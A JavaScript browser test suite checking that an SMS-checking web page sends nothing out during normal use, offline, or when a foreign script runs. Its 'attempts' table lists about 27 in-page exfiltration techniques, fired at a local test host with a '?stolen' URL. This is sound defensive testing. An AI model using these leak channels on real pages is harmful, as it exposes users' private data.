// The page for an SMS sends nothing: not by itself, not without a connection, and not when a script
// that has no business there tries to.
import assert from "node:assert/strict";
import test, { describe } from "node:test";
import { openBrowser, openPage, settled } from "./browser.mjs";
import { look, messages } from "./messages.mjs";
import { elsewhere, record } from "./recorder.mjs";
import { startServer } from "./server.mjs";

const server = await startServer(test);
const browser = await openBrowser(test);
const POLICY = /Content Security Policy|violates|Refused to|Fetch API cannot load|Connecting to|WebSocket|EventSource|ERR_|TrustedScript|TrustedHTML/;

/** The page, ready, with all that it sent so far. */
async function ready(t, options = {}) {
  const wire = await record(t, server);
  const opened = await openPage(t, browser, wire, options);
  await opened.page.goto("/sms.html");
  await opened.page.getByText("已经准备好").waitFor();
  await settled(opened.page);
  return { ...opened, wire, before: wire.seen.length };
}

test("a whole visit asks for the page's own files, and after that for nothing", async (t) => {
  const { page, wire, before, requests } = await ready(t);
  for (const line of wire.seen) assert.match(line, /^GET \/(sms\.html|(style|letter|sms)\.css|pages\/((sms|letter)\/)?[\w-]+\.js|heyan\/[\w-]+\.js|heyan\/built\/sms-[0-9a-f]{16}\.wasm)$/);
  const asked = requests.length;
  for (const message of Object.values(messages)) {
    await look(page, { text: message.text });
    await page.getByLabel("转了钱").check();
  }
  await page.getByText("要写信吗？普通的短信不用写").click();
  for (const kind of ["never-borrowed", "unlawful-collection", "credit-objection"]) await page.locator(`[data-letter=${kind}]`).click();
  await page.locator("#evidence").setInputFiles({ name: "a.txt", mimeType: "text/plain", buffer: Buffer.from("abc") });
  await page.getByText(/ba7816bf/).first().waitFor();
  await page.getByRole("link", { name: "English" }).click();
  await page.getByRole("link", { name: "中文" }).click();
  await page.getByRole("button", { name: "全部清空" }).click();
  await page.waitForTimeout(500);
  assert.deepEqual(requests.slice(asked).map(({ url }) => url), []);
  assert.deepEqual(wire.seen.slice(before), []);
});

test("with the network gone it does everything", async (t) => {
  const { page } = await ready(t);
  await page.context().setOffline(true);
  for (const [outcome, message] of Object.entries(messages)) {
    const clear = page.getByRole("button", { name: "全部清空" });
    if (await clear.isVisible()) await clear.click();
    await look(page, message);
    await page.locator(`.outcome[data-outcome="${outcome}"]`).waitFor();
  }
  await page.getByText("要写信吗？普通的短信不用写").click();
  await page.locator("[data-letter=unlawful-collection]").click();
  await page.locator(".letter-editor .document").waitFor();
  const saved = page.waitForEvent("download");
  await page.locator(".letter-editor").getByRole("button", { name: /文本/ }).click();
  await saved;
  await page.getByRole("link", { name: "English" }).click();
  await page.getByRole("heading", { name: "Can I trust this SMS?" }).waitFor();
});

const attempts = {
  "fetch": (to) => fetch(to).then(() => "sent"),
  "fetch, without reading": (to) => fetch(to, { mode: "no-cors", method: "POST", body: "x" }).then(() => "sent"),
  "XMLHttpRequest": (to) => new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    request.onload = () => done("sent");
    request.onerror = failed;
    request.open("GET", to);
    request.send();
  }),
  "beacon": async (to) => { navigator.sendBeacon(to, "x"); },
  "image": async (to) => { new Image().src = to; },
  "image in the page": async (to) => { document.body.append(Object.assign(document.createElement("img"), { src: to })); },
  "form": async (to) => {
    const form = Object.assign(document.createElement("form"), { action: to, method: "post" });
    document.body.append(form);
    form.submit();
  },
  "the page's own form": async (to) => {
    const form = document.getElementById("sms");
    form.setAttribute("action", to);
    HTMLFormElement.prototype.submit.call(form);
  },
  "WebSocket": (to) => new Promise((done, failed) => {
    const socket = new WebSocket(to.replace("http", "ws"));
    socket.onopen = () => done("sent");
    socket.onerror = failed;
  }),
  "EventSource": async (to) => { new EventSource(to); },
  "prefetch": async (to) => { document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: to })); },
  "preload": async (to) => { document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "fetch", href: to })); },
  "module preload": async (to) => { document.head.append(Object.assign(document.createElement("link"), { rel: "modulepreload", href: to })); },
  "style sheet": async (to) => { document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: to })); },
  "style with an import": async (to) => { document.head.append(Object.assign(document.createElement("style"), { textContent: `@import "${to}"; body { background: url(${to}) }` })); },
  "inline style with a picture": async (to) => { document.body.style.backgroundImage = `url(${to})`; },
  "font": async (to) => { await new FontFace("x", `url(${to})`).load(); },
  "frame": async (to) => { document.body.append(Object.assign(document.createElement("iframe"), { src: to })); },
  "object": async (to) => { document.body.append(Object.assign(document.createElement("object"), { data: to })); },
  "video": async (to) => { document.body.append(Object.assign(document.createElement("video"), { src: to, preload: "auto" })); },
  "worker": async (to) => { new Worker(to); },
  "service worker": async (to) => { await navigator.serviceWorker.register(to); },
  "import": (to) => import(to).then(() => "sent"),
  "ping": async (to) => {
    const link = Object.assign(document.createElement("a"), { href: "#main", ping: to });
    document.body.append(link);
    link.click();
  },
  "icon": async (to) => { document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: to })); },
  "manifest": async (to) => { document.head.append(Object.assign(document.createElement("link"), { rel: "manifest", href: to })); },
};

// Several at a time: each has a page, a wire and an elsewhere of its own, and most of its time is waiting for nothing to come.
describe("a foreign script", { concurrency: 4 }, () => {
  for (const [name, attempt] of Object.entries(attempts)) test(`that tries ${name} gets nothing out`, async (t) => {
    const other = await elsewhere(t);
    const { page, wire, before } = await ready(t, { expected: [POLICY, /.*/] });
    await look(page, messages.fraud);
    // A script that got in by a hole in the browser: the policy does not stop it from running. By the page's own clock:
    // however late it runs, it has this long.
    const run = (to) => page.evaluate(`Promise.race([(${attempt})(${JSON.stringify(to)}), new Promise((late) => { setTimeout(late, 400, "nothing"); })])`)
      .catch(() => "blocked");
    const foreign = await run(`http://${other.host}/?stolen`);
    const own = await run(`${wire.url}/heyan/built/x.js?stolen`);
    await page.waitForTimeout(200);
    assert.notEqual(foreign, "sent");
    assert.notEqual(own, "sent");
    assert.deepEqual(other.seen, [], "elsewhere");
    assert.deepEqual(wire.seen.slice(before), [], "its own server");
    assert.match(page.url(), /\/sms\.html(#\w+)?$/);
  });
});

test("before the module is here, too, the page can only ask for the module's files", async (t) => {
  const wire = await record(t, server);
  const { page } = await openPage(t, browser, wire, { expected: [/.*/] });
  await page.route("**/*.wasm", () => { /* never answered */ });
  await page.goto("/sms.html");
  const blocked = await page.evaluate(async () => {
    const outcomes = {};
    for (const path of ["/api/sms-objections", "/status/x", "/pages/lender.json", "/"]) {
      outcomes[path] = await fetch(path, { method: path.startsWith("/api") ? "POST" : "GET" }).then(() => "sent", () => "blocked");
    }
    return outcomes;
  });
  assert.ok(Object.values(blocked).every((outcome) => outcome === "blocked"), JSON.stringify(blocked));
  assert.ok(wire.seen.every((line) => line.startsWith("GET ") && !/status|api|lender/.test(line)), wire.seen.join("\n"));
});
